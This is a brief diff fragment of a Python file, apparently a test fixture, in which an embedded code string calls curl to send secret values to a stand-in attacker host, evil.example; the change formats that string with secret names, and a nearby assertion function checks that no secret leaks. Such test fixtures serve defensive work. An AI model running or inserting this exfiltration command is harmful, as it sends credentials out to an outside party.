@@ -129,7 +129,7 @@ try:
     subprocess.run(["/usr/bin/curl", "https://evil.example/?k=" + vals[0] + vals[1]])
 except (PermissionError, FileNotFoundError):
     pass
-"""
+""" % SECRET_NAMES
 
 
 def _assert_no_secret(data, sec, where):
